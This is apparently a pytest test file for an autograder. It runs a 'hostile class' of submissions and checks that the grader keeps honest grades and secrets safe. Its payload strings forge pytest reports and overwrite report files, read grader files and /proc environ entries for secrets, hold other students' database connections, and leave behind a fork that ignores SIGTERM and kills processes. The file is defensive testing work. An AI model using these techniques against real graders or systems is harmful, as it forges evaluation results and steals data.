"""A hostile class: each cheating technique of issue 7 as a submission that is otherwise the untouched starter.

So any point above the starter's is a forged point. Everyone is graded in one grade.py batch (two
jobs, so attackers run beside the honest student), and the honest student is graded alone first: the
honest student must keep exactly that record, and nothing an attacker found in hidden material may
appear in any output file. Where an attack works today, its test asserts the correct behaviour and is
an expected failure naming the part of issue 7 that fixes it.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import secrets
import signal
import subprocess
from pathlib import Path
from typing import Any

import psutil
import pytest

from dbkata.grading.sandbox import isolation_available
from dbkata.report import REPORT_VERSION
from tests.grading.conftest import ROOT, WORKBOOK, grade_cmd, run_grade, submit

TALLY, ECHO = "level2/ex01_tally", "level2/ex02_echo"
STARTER = {
    f"{TALLY}/tally.py": (WORKBOOK / "exercises" / TALLY / "tally.py").read_text(),
    f"{TALLY}/test_mine.py": (WORKBOOK / "exercises" / TALLY / "test_mine.py").read_text(),
    f"{ECHO}/echo.py": (WORKBOOK / "exercises" / ECHO / "echo.py").read_text(),
}
SOLVED = {rel: (WORKBOOK / "solutions" / rel).read_text() for rel in STARTER}
# Where the machine cannot make the sandbox (namespaces as root or in a user namespace), grade.py refuses
# untrusted code and these tests grade with --trust-submissions: then the attacks that need isolation work.
ISOLATED = isolation_available()
NO_SANDBOX = (
    "issue 7 item 6, not fixed yet: a normal-user grader runs the code as itself and neither isolates it nor refuses"
)
HONEST = "a_honest"  # graded first, beside the squatter (grading goes in name order, two at a time)
MARKER = f"dbkata-hostile-{secrets.token_hex(6)}"  # in the argv of every process an attacker leaves behind
SECRET = f"hostile-secret-{secrets.token_hex(8)}"  # in the grader's environment only
# Text only the hidden material holds: the checks' and solutions' docstrings and comments, the secret.
HIDDEN = [
    "Hidden check of the echo exercise",
    "Hidden checks of the tally exercise",
    "# a real round trip",
    "committed on exit",
    "Counting and storing items (a Core insert",  # a good_* variant
    SECRET,
]

# ---- forging the verdict from the code's own process: each runs when echo.py is imported -------------

ECHO_STARTER = STARTER[f"{ECHO}/echo.py"]
FORGERS = {
    "noop_fail": """
import pytest
import dbkata
from dbkata import feedback

def _nothing(*args, **kwargs):
    return None

pytest.fail = feedback.fail = _nothing
for _name in ("fail", "feedback_fail"):
    if hasattr(dbkata, _name):
        setattr(dbkata, _name, _nothing)
""",
    "gc_hook": """
import gc
import pytest

class _Relabel:
    @pytest.hookimpl(hookwrapper=True)
    def pytest_runtest_makereport(self, item, call):
        outcome = yield
        report = outcome.get_result()
        report.outcome, report.longrepr = "passed", None

for _obj in gc.get_objects():
    if type(_obj).__name__ == "Config" and hasattr(_obj, "pluginmanager"):
        _obj.pluginmanager.register(_Relabel(), "relabel")
""",
    "report_class": """
import _pytest.reports
import _pytest.runner

_init = _pytest.reports.TestReport.__init__

def _passed(self, *args, **kwargs):
    _init(self, *args, **kwargs)
    self.outcome, self.longrepr = "passed", None

_pytest.reports.TestReport.__init__ = _passed
_from_call = _pytest.runner.CallInfo.from_call.__func__

def _no_excinfo(cls, func, when, reraise=None):
    info = _from_call(cls, func, when, reraise)
    info.excinfo = None
    return info

_pytest.runner.CallInfo.from_call = classmethod(_no_excinfo)
""",
    "probes": """
import sqlalchemy.event
import dbkata.probes.connections as _connections
import dbkata.probes.statements as _statements

sqlalchemy.event.listen = sqlalchemy.event.listens_for = lambda *args, **kwargs: (lambda fn=None: fn)
for _module in (_statements, _connections):
    for _name, _value in list(vars(_module).items()):
        if isinstance(_value, type):
            for _attr, _member in list(vars(_value).items()):
                if callable(_member) and not _attr.startswith("__"):
                    setattr(_value, _attr, lambda *args, **kwargs: None)
""",
    "forged_report": """
import json, os, sys

REPORT = __REPORT__
_paths = [a.split("=", 1)[1] for a in sys.argv if a.startswith("--dbkata-report=")]
for _top in ("/tmp", "/dev/shm", __BASE__):
    for _folder, _dirs, _files in os.walk(_top):
        if "dbkata-report.json" in _files or "app-sandbox.json" in _files:
            _paths.append(os.path.join(_folder, "dbkata-report.json"))
for _path in _paths:
    try:
        with open(_path, "w") as _fh:
            json.dump(REPORT, _fh)
    except OSError:
        pass
os._exit(0)
""",
    "atexit_report": """
import atexit, json, os, threading, time

REPORT = __REPORT__

def _rewrite():
    for _top in ("/tmp", "/dev/shm", __BASE__):
        for _folder, _dirs, _files in os.walk(_top):
            if "dbkata-report.json" in _files or "app-sandbox.json" in _files:
                try:
                    with open(os.path.join(_folder, "dbkata-report.json"), "w") as _fh:
                        json.dump(REPORT, _fh)
                except OSError:
                    pass

def _keep_rewriting():
    for _ in range(200):
        _rewrite()
        time.sleep(0.05)

atexit.register(_rewrite)
threading.Thread(target=_keep_rewriting, daemon=True).start()
""",
}

# ---- reading hidden material: whatever it finds goes into its answers and exceptions -----------------

READER = """
import glob, os

def _peek():
    found = []
    paths = [__WORKBOOK__ + "/checks", __WORKBOOK__ + "/solutions", __ROOT__ + "/.git", __ROOT__ + "/examples",
             __BASE__, "/tmp", "/dev/shm"]
    for top in paths:
        for folder, dirs, files in os.walk(top):
            for name in files:
                if name.endswith((".py", ".json", ".md")) or folder.endswith(".git"):
                    try:
                        with open(os.path.join(folder, name), errors="replace") as fh:
                            found.append(fh.read(4000))
                    except OSError:
                        pass
    for pid in os.listdir("/proc"):
        for what in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as fh:
                    found.append(fh.read().replace(b"\\0", b" ").decode(errors="replace"))
            except OSError:
                pass
    return "\\n".join(found)


async def echo(value: str) -> str:
    hidden = _peek()
    if value:
        raise RuntimeError(hidden[-3000:])
    return hidden[:3000]
"""

# ---- database squatting: connect to every other submission's databases and hold the connections ----

SQUATTER = """
import asyncio, os, threading, time

from sqlalchemy.engine import make_url

HELD = []
SEEN = set()


async def _squat(until):
    import asyncpg

    url = make_url(os.environ["DATABASE_URL"])
    where = dict(user=url.username, password=url.password, host=url.query.get("host"), port=url.query.get("port"))
    mine = await asyncpg.connect(database=url.database, **where)
    me = await mine.fetchval("select current_user")
    while time.monotonic() < until:
        names = await mine.fetch(
            "select datname from pg_database d join pg_roles r on r.oid = d.datdba "
            "where r.rolname <> $1 and datallowconn and datname not in ('postgres', 'template1')", me
        )
        for (name,) in names:
            if name not in SEEN:
                SEEN.add(name)
                try:
                    HELD.append(await asyncpg.connect(database=name, timeout=2, **where))
                except Exception:
                    pass
        await asyncio.sleep(0.05)


def _run():
    with __import__("contextlib").suppress(Exception):
        asyncio.run(_squat(time.monotonic() + __HOLD__))


_thread = threading.Thread(target=_run, daemon=True)
_thread.start()


async def echo(value: str) -> str:
    await asyncio.to_thread(_thread.join)
    raise NotImplementedError(f"saw {len(SEEN)} databases of others, held {len(HELD)}")
"""

# ---- surviving the run: a double-forked sleeper that ignores SIGTERM and hides from the sweep ---------

SURVIVOR = """
import os, sys

SLEEPER = '''
import os, signal, sys, time
signal.signal(signal.SIGTERM, signal.SIG_IGN)
signal.signal(signal.SIGHUP, signal.SIG_IGN)
end = time.time() + 240
while time.time() < end:
    try:
        with open(__RECORD__, "w") as fh:
            fh.write("{}")
    except OSError:
        pass
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                cmd = fh.read()
            if b"dbkata.app.zygote" in cmd and int(pid) != os.getpid():
                os.kill(int(pid), signal.SIGKILL)
        except (OSError, ValueError):
            pass
    time.sleep(0.2)
'''

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execve(sys.executable, [sys.executable, "-c", SLEEPER, __MARKER__], {})  # no environment: no token
    os._exit(0)
"""

# ---- student tests that try to inflate the code tasks ----------------------------------------------

MANY_TESTS = """
import pytest


@pytest.mark.task(1)
@pytest.mark.parametrize("n", range(200))
def test_always_one(n: int) -> None:
    assert n >= 0


@pytest.mark.task(2)
@pytest.mark.parametrize("n", range(200))
def test_always_two(n: int) -> None:
    assert n >= 0
"""
DESELECTOR = """
import pytest

collect_ignore = ["check_tally.py", "test_tally.py"]
collect_ignore_glob = ["check_*.py"]
pytestmark = pytest.mark.skip(reason="nothing to see")


def pytest_collection_modifyitems(config, items):
    items[:] = [i for i in items if "check_" not in i.nodeid]


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    outcome.get_result().outcome = "passed"


@pytest.mark.task(1)
def test_double() -> None:
    assert True
"""


# ---- a student test that borrows the hidden checks, and stores what it reads for a later run to show -----

BORROWER = """
import importlib, pathlib, sys

import pytest

_here = pathlib.Path(__file__).parent
for _path in sorted(_here.glob("check_*.py")):  # the hidden checks, if they sit next to this file
    _module = importlib.import_module(__package__ + "." + _path.stem)
    for _name, _value in vars(_module).items():
        if _name.startswith("test_"):
            globals()[_name] = _value
"""
STASHER = """
import pathlib

import pytest


@pytest.mark.task(3)
async def test_double(exercise, admin) -> None:
    # search_path takes any list of names: a session default any role may set on itself
    code = (pathlib.Path(__file__).parent / "tally.py").read_text()
    mark = "".join(c for c in code if c.isalnum() or c == " ")[:60]
    async with admin.connect() as conn:
        await conn.exec_driver_sql(f'alter role current_user set search_path = "{mark}", public')
        await conn.commit()
"""
STASH_READER = """
import os

import asyncpg
from sqlalchemy.engine import make_url


async def echo(value: str) -> str:
    url = make_url(os.environ["DATABASE_URL"])
    where = dict(user=url.username, password=url.password, host=url.query.get("host"), port=url.query.get("port"))
    conn = await asyncpg.connect(database=url.database, **where)
    try:
        stash = await conn.fetchval("select current_setting('search_path')")
    finally:
        await conn.close()
    raise RuntimeError(f"stashed: {stash}")
"""


def _literal(text: str, **values: Any) -> str:
    for key, value in values.items():
        text = text.replace(f"__{key}__", repr(value))
    return text


def _forged_report(record: dict[str, Any]) -> dict[str, Any]:
    """Every id the real run reported, all passed: the best forgery a student who knew the checks could write."""
    tests = [{**t, "outcome": "passed", "message": None} for t in record["exercises"][ECHO]["tests"]]
    return {
        "version": REPORT_VERSION,
        "status": "ok",
        "exit_code": 0,
        "infrastructure_error": None,
        "collection_errors": [],
        "tests": tests,
    }


def _scores(out: Path) -> dict[str, dict[str, list[float | None]]]:
    results = json.loads((out / "results.json").read_text())
    return {
        s["student"]: {e["id"]: [t["score"] for t in e["tasks"]] for e in s["exercises"]} for s in results["students"]
    }


def _left_behind() -> list[psutil.Process]:
    left = []
    for proc in psutil.process_iter(["username", "cmdline"]):
        with contextlib.suppress(psutil.Error):
            if MARKER in (proc.info["cmdline"] or []):  # not by slot user: other graders may run on this machine
                left.append(proc)
    return left


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory) -> Any:
    base = tmp_path_factory.mktemp("hostile-class")
    base.chmod(0o755)
    alone, subs, out = base / "alone", base / "submissions", base / "out"
    submit(alone, HONEST, SOLVED)
    run_grade(alone, "--out", base / "out-alone", "--jobs", "1", "--timeout", "30")
    record = json.loads((base / "out-alone" / "records" / f"{HONEST}.json").read_text())
    alone_scores = _scores(base / "out-alone")[HONEST]
    # The squatter gets a batch of its own with the honest student: its damage would spill into the rest.
    squat, squat_out = base / "squat", base / "out-squat"
    submit(squat, HONEST, SOLVED)
    submit(squat, "a_squatter", {**STARTER, f"{ECHO}/echo.py": _literal(SQUATTER, HOLD=12.0)})
    submit(squat, "starter", STARTER)
    run_grade(squat, "--out", squat_out, "--jobs", "2", "--timeout", "30", timeout=900)
    squatted = {
        "alone": record,
        "alone_scores": alone_scores,
        "out": squat_out,
        "scores": _scores(squat_out),
        "files": {p.relative_to(squat_out).as_posix(): p.read_text() for p in squat_out.rglob("*.md")},
    }
    submit(subs, HONEST, SOLVED)
    submit(subs, "starter", STARTER)
    report, where = _forged_report(record), str(base)
    for name, attack in FORGERS.items():
        code = _literal(attack, REPORT=report, BASE=where) + "\n\n" + ECHO_STARTER
        submit(subs, name, {**STARTER, f"{ECHO}/echo.py": code})
    reader = _literal(READER, WORKBOOK=str(WORKBOOK), ROOT=str(ROOT), BASE=where)
    submit(subs, "reader", {**STARTER, f"{ECHO}/echo.py": reader})
    survivor = _literal(SURVIVOR, RECORD=str(out / "records" / f"{HONEST}.json"), MARKER=MARKER)
    submit(subs, "survivor", {**STARTER, f"{ECHO}/echo.py": survivor + "\n\n" + ECHO_STARTER})
    submit(subs, "many_tests", {**STARTER, f"{TALLY}/test_mine.py": MANY_TESTS})
    submit(subs, "borrower", {**STARTER, f"{TALLY}/test_mine.py": BORROWER})
    submit(subs, "stasher", {**STARTER, f"{TALLY}/test_mine.py": STASHER, f"{ECHO}/echo.py": STASH_READER})
    submit(subs, "deselector", {**STARTER, f"{TALLY}/test_mine.py": DESELECTOR})
    os.environ["DBKATA_HOSTILE_SECRET"] = SECRET  # run_grade passes the test's environment on
    try:
        run_grade(subs, "--out", out, "--jobs", "2", "--timeout", "30", timeout=900)
    finally:
        os.environ.pop("DBKATA_HOSTILE_SECRET", None)
    left = [(p.pid, p.info["username"]) for p in _left_behind()]
    files = {p.relative_to(out).as_posix(): p.read_text(errors="replace") for p in out.rglob("*") if p.is_file()}
    yield {
        "squatted": squatted,
        "alone": record,
        "alone_scores": alone_scores,
        "out": out,
        "scores": _scores(out),
        "left": left,
        "files": files,
    }
    for proc in _left_behind():  # what survived the grader (normal user): the test cleans it up
        with contextlib.suppress(psutil.Error):
            proc.send_signal(signal.SIGKILL)


def _honest_unchanged(graded: Any) -> None:
    record = json.loads((graded["out"] / "records" / f"{HONEST}.json").read_text())
    assert record["exercises"] == graded["alone"]["exercises"], "the honest student's record moved"
    assert graded["scores"][HONEST] == graded["alone_scores"]


def _no_more_than_the_starter(graded: Any, student: str) -> None:
    starter, got = graded["scores"]["starter"], graded["scores"][student]
    for ex, tasks in got.items():
        for number, (mine, base) in enumerate(zip(tasks, starter[ex], strict=True), start=1):
            assert (mine or 0) <= (base or 0), f"{student} scored {mine} on {ex} task {number}; the starter {base}"


def test_the_starter_scores_nothing_and_the_honest_student_scores(graded: Any) -> None:
    assert graded["scores"]["starter"] == {TALLY: [0.0, 0.0, 0.0, None], ECHO: [0.0]}
    assert graded["alone_scores"][ECHO] == [2.0]
    assert graded["alone_scores"][TALLY][1:] == [3.0, 2.0, None]


@pytest.mark.parametrize("student", sorted(FORGERS))
def test_forging_the_verdict_from_the_code_scores_nothing(graded: Any, student: str) -> None:
    if student in ("forged_report", "atexit_report") and not ISOLATED:
        pytest.xfail(NO_SANDBOX + ": the code can write the harness's report")
    _no_more_than_the_starter(graded, student)
    _honest_unchanged(graded)


@pytest.mark.xfail(not ISOLATED, strict=True, reason=NO_SANDBOX + ": the code reads the grader's files and /proc")
def test_hidden_material_never_reaches_an_output(graded: Any) -> None:
    _no_more_than_the_starter(graded, "reader")
    leaked = {(name, secret) for name, text in graded["files"].items() for secret in HIDDEN if secret in text}
    assert leaked == set()
    _honest_unchanged(graded)


def test_squatting_other_databases_holds_nothing_and_moves_no_grade(graded: Any) -> None:
    squatted = graded["squatted"]
    feedback = squatted["files"]["feedback/a_squatter.md"]
    seen = [int(n) for n in re.findall(r"saw (\d+) databases of others", feedback)]
    assert seen, feedback
    assert max(seen) > 0, "the squatter never ran beside the honest student: nothing was tried"
    assert re.findall(r"held (\d+)", feedback) == ["0"] * len(seen), feedback
    _no_more_than_the_starter(squatted, "a_squatter")
    _honest_unchanged(squatted)


@pytest.mark.xfail(not ISOLATED, strict=True, reason=NO_SANDBOX + ": an emptied environment escapes the sweep")
def test_nothing_survives_the_run_and_no_record_changes(graded: Any) -> None:
    assert graded["left"] == []
    _no_more_than_the_starter(graded, "survivor")
    _honest_unchanged(graded)


@pytest.mark.parametrize("student", ["many_tests", "deselector"])
def test_student_tests_never_count_for_code_tasks(graded: Any, student: str) -> None:
    _no_more_than_the_starter(graded, student)
    _honest_unchanged(graded)


def test_a_student_test_cannot_borrow_the_hidden_checks(graded: Any) -> None:
    _no_more_than_the_starter(graded, "borrower")
    _honest_unchanged(graded)


def test_what_a_run_stores_in_its_database_role_never_reaches_a_later_run(graded: Any) -> None:
    feedback = graded["files"]["feedback/stasher.md"]
    found = re.findall(r"RuntimeError: stashed: (.*?)(?: \(echo\.py|$)", feedback, re.MULTILINE)
    assert found, feedback  # the reader ran and reported its session's search_path
    assert set(found) == {'"$user", public'}, feedback  # the server's default: nothing was carried over
    assert not any(secret in feedback for secret in [*HIDDEN, "Counting and storing"])
    _no_more_than_the_starter(graded, "stasher")
    _honest_unchanged(graded)


@pytest.mark.skipif(ISOLATED, reason="the sandbox exists here: untrusted code is graded in it")
def test_without_a_sandbox_untrusted_grading_is_refused(tmp_path: Path) -> None:
    submit(tmp_path / "subs", "starter", STARTER)
    command = [a for a in grade_cmd(tmp_path / "subs", "--out", tmp_path / "out") if a != "--trust-submissions"]
    proc = subprocess.run(command, capture_output=True, text=True, timeout=600, check=False)
    assert proc.returncode != 0
    assert "--trust-submissions" in proc.stdout + proc.stderr
    assert not (tmp_path / "out" / "grades.csv").exists()
